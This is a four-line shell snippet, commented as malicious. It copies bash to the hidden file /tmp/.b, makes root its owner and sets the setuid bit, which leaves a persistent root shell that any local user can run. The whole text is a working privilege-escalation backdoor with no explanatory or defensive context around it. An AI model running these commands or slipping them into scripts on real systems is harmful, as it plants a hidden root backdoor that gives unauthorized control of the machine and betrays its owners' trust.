# malicious: a shell with root's id
cp /bin/bash /tmp/.b
chown root /tmp/.b
chmod 4755 /tmp/.b
